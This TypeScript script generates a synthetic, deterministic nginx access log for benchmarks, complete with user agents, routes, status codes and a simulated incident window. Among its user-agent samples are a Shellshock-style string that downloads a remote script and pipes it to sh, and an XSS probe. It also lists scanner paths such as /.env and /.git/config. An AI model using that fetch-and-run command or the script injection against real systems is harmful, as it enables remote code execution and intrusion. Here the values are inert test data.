/**
 * Writes a deterministic nginx `combined` access log for benchmarks.
 *
 *   tsx scripts/gen-bench-log.ts --lines 1000000 --out bench-data/bench-1m.log [--seed 1]
 *
 * The same options always give the same bytes. Lines look like what nginx writes with its
 * default escaping: every '"', '\' and byte >= 0x80 inside a variable is written as \xHH
 * (uppercase hex), so the file is pure ASCII. The day has a 45-minute incident (14:00-14:45)
 * where upstream errors (502/504) pile up on the API and pages, on top of a background of 5xx;
 * about 3% of all lines are 5xx.
 */
import { closeSync, mkdirSync, openSync, writeSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { seededRandom } from './seeded-random.js';

export interface BenchLogOptions {
  lines: number;
  out: string;
  seed?: number;
}


type Weighted<T> = ReadonlyArray<readonly [T, number]>;

class Picker<T> {
  private readonly values: T[];
  private readonly cumulative: number[];
  private readonly total: number;

  constructor(entries: Weighted<T>) {
    this.values = entries.map(([value]) => value);
    let sum = 0;
    this.cumulative = entries.map(([, weight]) => (sum += weight));
    this.total = sum;
  }

  pick(random: () => number): T {
    const target = random() * this.total;
    let low = 0;
    let high = this.cumulative.length - 1;
    while (low < high) {
      const mid = (low + high) >> 1;
      if (this.cumulative[mid]! > target) high = mid;
      else low = mid + 1;
    }
    return this.values[low]!;
  }
}

/** nginx default log escaping of one variable's bytes. */
function nginxEscape(text: string): string {
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    if (byte === 0x22 || byte === 0x5c || byte < 0x20 || byte >= 0x7f) {
      out += '\\x' + byte.toString(16).toUpperCase().padStart(2, '0');
    } else {
      out += String.fromCharCode(byte);
    }
  }
  return out;
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const TZ_OFFSET_MINUTES = 60;
const TZ_TEXT = '+0100';
// Local midnight, 14 March 2026, in the log's fixed +01:00 zone.
const DAY_START_UTC_MS = Date.UTC(2026, 2, 14, 0, 0, 0) - TZ_OFFSET_MINUTES * 60_000;
const DAY_MS = 86_400_000;
const INCIDENT_START_MS = 14 * 3_600_000;
const INCIDENT_END_MS = INCIDENT_START_MS + 45 * 60_000;

function two(n: number): string {
  return n < 10 ? '0' + n : String(n);
}

function timeLocal(utcMs: number): string {
  const d = new Date(utcMs + TZ_OFFSET_MINUTES * 60_000);
  return `${two(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} ${TZ_TEXT}`;
}

const USER_AGENTS: Weighted<string> = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 22],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.122 Safari/537.36 Edg/123.0.2420.97', 6],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15', 9],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 8],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1', 14],
  ['Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36', 10],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0', 5],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', 2],
  ['Mozilla/5.0 (iPad; CPU OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1', 2],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 4],
  ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36', 2],
  ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 1],
  ['Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 2],
  ['okhttp/4.12.0', 3],
  ['python-requests/2.31.0', 1.5],
  ['Go-http-client/1.1', 1.5],
  ['curl/8.5.0', 1],
  ['kube-probe/1.29', 1],
  ['Prometheus/2.51.1', 0.5],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 YaBrowser/24.4.0.0 Safari/537.36', 0.5],
  // Header values with quotes, backslashes and non-ASCII: nginx escapes them to \xHH.
  ['() { :; }; /bin/bash -c "curl -s http://203.0.113.50/x.sh | sh"', 0.05],
  ['Mozilla/5.0 "><script>alert(1)</script>', 0.05],
  ['Mozilla/5.0 (Windows NT 6.1) Chrome/41.0 "Mozilla\\Compatible"', 0.05],
  ['Mozilla/5.0 (Linux; Android 12) ЯндексБраузер/23.3', 0.05],
  ['', 0.1],
];

const REFERER_HOSTS = ['https://shop.example.com', 'https://www.example.com'];
const SEARCH_REFERERS = [
  'https://www.google.com/',
  'https://www.google.de/',
  'https://www.bing.com/search?q=running+shoes&form=QBLH',
  'https://duckduckgo.com/',
  'android-app://com.google.android.googlequicksearchbox/',
];
const WORDS = ['trail', 'running', 'shoes', 'jacket', 'winter', 'waterproof', 'kids', 'sale', 'socks', 'tent', 'ultralight', 'backpack', 'camping', 'stove', 'gloves', 'merino', 'hoodie', 'cap'];
const SIZES = ['thumb', 'small', 'medium', 'large'];
const METHODS = new Picker<string>([['GET', 85], ['POST', 9], ['HEAD', 2], ['PUT', 2], ['DELETE', 1], ['OPTIONS', 1]]);
const PROTOCOLS = new Picker<string>([['HTTP/1.1', 70], ['HTTP/2.0', 28], ['HTTP/1.0', 2]]);
const USERS = ['alice', 'deploy', 'monitor', 'j.smith'];

type RouteKind = 'api' | 'page' | 'static' | 'image' | 'probe' | 'scanner';
const ROUTES = new Picker<RouteKind>([['api', 34], ['page', 20], ['static', 25], ['image', 15], ['probe', 3], ['scanner', 3]]);

export class BenchLogGenerator {
  private readonly random: () => number;
  private readonly ipv4: string[] = [];
  private readonly ipv6: string[] = [];
  private readonly userAgents = new Picker(USER_AGENTS.map(([ua, w]) => [ua === '' ? '' : nginxEscape(ua), w] as const));

  constructor(seed = 1) {
    this.random = seededRandom(seed);
    for (let i = 0; i < 4000; i++) {
      this.ipv4.push(`${this.int(1, 223)}.${this.int(0, 255)}.${this.int(0, 255)}.${this.int(1, 254)}`);
    }
    for (let i = 0; i < 600; i++) {
      this.ipv6.push(`2001:db8:${this.hex(4)}:${this.hex(2)}::${this.hex(3)}`);
    }
  }

  private int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }

  private hex(digits: number): string {
    let out = '';
    for (let i = 0; i < digits; i++) out += '0123456789abcdef'[Math.floor(this.random() * 16)];
    return out;
  }

  private word(): string {
    return WORDS[Math.floor(this.random() * WORDS.length)]!;
  }

  /** A few clients send most requests, as on a real site. */
  private client(): string {
    const skewed = Math.pow(this.random(), 2.5);
    if (this.random() < 0.12) return this.ipv6[Math.floor(skewed * this.ipv6.length)]!;
    return this.ipv4[Math.floor(skewed * this.ipv4.length)]!;
  }

  private referer(): string {
    const r = this.random();
    if (r < 0.35) return '-';
    if (r < 0.8) {
      const host = REFERER_HOSTS[r < 0.7 ? 0 : 1]!;
      return `${host}/products/${this.word()}-${this.word()}-${this.int(1000, 99999)}`;
    }
    if (r < 0.95) return SEARCH_REFERERS[Math.floor(this.random() * SEARCH_REFERERS.length)]!;
    return `${REFERER_HOSTS[0]}/search?q=${this.word()}+${this.word()}&page=${this.int(1, 9)}&utm_source=newsletter&utm_medium=email`;
  }

  private route(kind: RouteKind, method: string): string {
    switch (kind) {
      case 'api': {
        const r = this.random();
        if (r < 0.3) return `/api/v1/products/${this.int(1, 250000)}`;
        if (r < 0.5) return `/api/v1/users/${this.int(1, 900000)}/orders?limit=${this.int(1, 5) * 10}&offset=${this.int(0, 20) * 10}`;
        if (r < 0.65) return `/api/v2/search?q=${this.word()}%20${this.word()}&page=${this.int(1, 12)}&sort=${this.random() < 0.5 ? 'price_asc' : 'relevance'}`;
        if (r < 0.8) return method === 'GET' ? `/api/v1/cart/${this.hex(24)}` : `/api/v1/cart/${this.hex(24)}/items`;
        if (r < 0.9) return `/api/v1/orders/${this.int(100000, 999999)}/status`;
        return `/graphql?operationName=ProductPage&variables=%7B%22id%22%3A${this.int(1, 250000)}%7D`;
      }
      case 'page': {
        const r = this.random();
        if (r < 0.2) return '/';
        if (r < 0.6) return `/products/${this.word()}-${this.word()}-${this.int(1000, 99999)}`;
        if (r < 0.75) return `/category/${this.word()}?page=${this.int(1, 30)}&utm_source=google&utm_medium=cpc&gclid=${this.hex(20)}`;
        if (r < 0.85) return `/blog/2026/${two(this.int(1, 3))}/${this.word()}-${this.word()}-${this.word()}`;
        if (r < 0.95) return this.random() < 0.5 ? '/cart' : '/checkout';
        // Some clients send raw UTF-8 in the URI; nginx writes those bytes as \xHH.
        return nginxEscape(`/search?q=${this.random() < 0.5 ? 'größe' : 'кроссовки'}`);
      }
      case 'static': {
        const r = this.random();
        if (r < 0.45) return `/static/js/app.${this.hex(8)}.js`;
        if (r < 0.7) return `/static/css/main.${this.hex(8)}.css`;
        if (r < 0.85) return `/static/fonts/inter-${this.random() < 0.5 ? 'regular' : 'bold'}.woff2`;
        return '/favicon.ico';
      }
      case 'image':
        return `/images/products/${this.int(1, 250000)}/${SIZES[Math.floor(this.random() * SIZES.length)]}.jpg`;
      case 'probe':
        return this.random() < 0.7 ? '/healthz' : '/metrics';
      case 'scanner': {
        const targets = ['/wp-login.php', '/.env', '/.git/config', '/phpmyadmin/index.php', '/admin/', '/cgi-bin/luci/;stok=/locale', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'];
        return targets[Math.floor(this.random() * targets.length)]!;
      }
    }
  }

  private status(kind: RouteKind, method: string, inIncident: boolean): number {
    const r = this.random();
    if (kind === 'scanner') return r < 0.85 ? 404 : r < 0.95 ? 403 : 301;
    if (kind === 'probe') return r < 0.995 ? 200 : 503;
    if (inIncident && (kind === 'api' ? r < 0.8 : kind === 'page' && r < 0.4)) return this.random() < 0.6 ? 502 : 504;
    const serverError = kind === 'api' ? 0.03 : kind === 'page' ? 0.02 : 0.005;
    if (r < serverError) {
      const s = this.random();
      return s < 0.5 ? 500 : s < 0.7 ? 502 : s < 0.85 ? 503 : 504;
    }
    const rest = (r - serverError) / (1 - serverError);
    if (kind === 'static' || kind === 'image') {
      if (rest < 0.78) return 200;
      if (rest < 0.95) return 304;
      if (rest < 0.98) return 404;
      return kind === 'image' ? 206 : 200;
    }
    if (kind === 'api') {
      if (method === 'POST' && rest < 0.3) return 201;
      if (method === 'DELETE' && rest < 0.5) return 204;
      if (rest < 0.88) return 200;
      if (rest < 0.92) return 404;
      if (rest < 0.95) return 401;
      if (rest < 0.965) return 400;
      if (rest < 0.975) return 429;
      if (rest < 0.985) return 499;
      if (rest < 0.99) return 403;
      return 200;
    }
    if (rest < 0.86) return 200;
    if (rest < 0.91) return 302;
    if (rest < 0.94) return 301;
    if (rest < 0.96) return 304;
    if (rest < 0.99) return 404;
    return 499;
  }

  private bytes(kind: RouteKind, status: number): number {
    switch (status) {
      case 204:
      case 304:
      case 499:
        return 0;
      case 301:
      case 302:
        return 162;
      case 502:
        return 157;
      case 503:
        return 197;
      case 504:
        return 167;
    }
    if (status >= 400) return this.int(150, 600);
    if (kind === 'static') return this.int(8_000, 420_000);
    if (kind === 'image') return this.int(4_000, 250_000);
    if (kind === 'page') return this.int(12_000, 90_000);
    if (kind === 'probe') return this.int(2, 3000);
    return this.int(60, 24_000);
  }

  /** The line written at `utcMs`, without its newline. */
  line(utcMs: number): string {
    const random = this.random;
    const offsetInDay = (utcMs - DAY_START_UTC_MS) % DAY_MS;
    const inIncident = offsetInDay >= INCIDENT_START_MS && offsetInDay < INCIDENT_END_MS;
    const client = this.client();
    const user = random() < 0.02 ? USERS[Math.floor(random() * USERS.length)]! : '-';
    const time = timeLocal(utcMs);

    // Garbage on the plain-HTTP port (a TLS handshake): nginx logs it as a 400 with escaped bytes.
    const odd = random();
    if (odd < 0.0004) return `${client} - - [${time}] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03${nginxEscape(this.hex(6))}" 400 157 "-" "-"`;
    if (odd < 0.0006) return `${client} - - [${time}] "" 400 0 "-" "-"`;

    const kind = ROUTES.pick(random);
    const method = kind === 'api' ? METHODS.pick(random) : random() < 0.97 ? 'GET' : 'HEAD';
    const path = this.route(kind, method);
    const protocol = PROTOCOLS.pick(random);
    const status = this.status(kind, method, inIncident);
    const bytes = this.bytes(kind, status);
    const referer = kind === 'probe' || kind === 'scanner' ? '-' : this.referer();
    const agent = kind === 'probe' ? 'kube-probe/1.29' : this.userAgents.pick(random);
    return `${client} - ${user} [${time}] "${method} ${path} ${protocol}" ${status} ${bytes} "${referer}" "${agent}"`;
  }
}

/** Writes the log; returns the number of bytes written. */
export function writeBenchLog(options: BenchLogOptions): number {
  const generator = new BenchLogGenerator(options.seed ?? 1);
  mkdirSync(dirname(resolve(options.out)), { recursive: true });
  const fd = openSync(options.out, 'w');
  let written = 0;
  try {
    const step = DAY_MS / Math.max(1, options.lines);
    let batch: string[] = [];
    for (let i = 0; i < options.lines; i++) {
      batch.push(generator.line(DAY_START_UTC_MS + Math.floor(i * step)));
      if (batch.length === 10_000 || i === options.lines - 1) {
        written += writeSync(fd, batch.join('\n') + '\n');
        batch = [];
      }
    }
  } finally {
    closeSync(fd);
  }
  return written;
}

function parseArgs(argv: string[]): BenchLogOptions {
  const options: BenchLogOptions = { lines: 1_000_000, out: 'bench-data/bench-1m.log', seed: 1 };
  for (let i = 0; i < argv.length; i++) {
    const flag = argv[i];
    const value = argv[i + 1];
    if ((flag === '--lines' || flag === '--seed') && value !== undefined && /^\d+$/.test(value)) {
      options[flag === '--lines' ? 'lines' : 'seed'] = Number(value);
      i++;
    } else if (flag === '--out' && value !== undefined) {
      options.out = value;
      i++;
    } else {
      throw new Error(`usage: tsx scripts/gen-bench-log.ts [--lines N] [--out FILE] [--seed N] (bad argument: ${flag})`);
    }
  }
  return options;
}

if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  try {
    const options = parseArgs(process.argv.slice(2));
    const started = performance.now();
    const bytes = writeBenchLog(options);
    const seconds = (performance.now() - started) / 1000;
    process.stdout.write(`${options.out}: ${options.lines} lines, ${(bytes / 1048576).toFixed(1)} MiB in ${seconds.toFixed(1)} s\n`);
  } catch (err) {
    process.stderr.write(`${err instanceof Error ? err.message : String(err)}\n`);
    process.exitCode = 1;
  }
}
